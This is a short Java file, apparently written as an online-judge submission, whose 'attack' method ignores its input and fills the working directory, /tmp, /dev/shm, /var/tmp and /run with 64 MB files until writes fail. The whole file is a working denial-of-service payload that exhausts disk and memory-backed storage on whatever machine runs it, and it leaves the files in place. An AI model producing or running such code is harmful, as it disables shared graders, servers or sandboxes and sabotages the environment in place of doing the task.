import java.io.*;

class Solution {
	public int attack(int n) {
		int total = 0;
		byte[] block = new byte[1 << 20];
		for (String folder : new String[] {".", "/tmp", "/dev/shm", "/var/tmp", "/run"}) {
			for (int number = 0; number < 40; number++) {
				try (FileOutputStream file = new FileOutputStream(folder + "/fill-" + number)) {
					for (int i = 0; i < 64; i++) {
						file.write(block);
						total++;
					}
				} catch (IOException full) {
					break;
				}
			}
		}
		return total;
	}
}
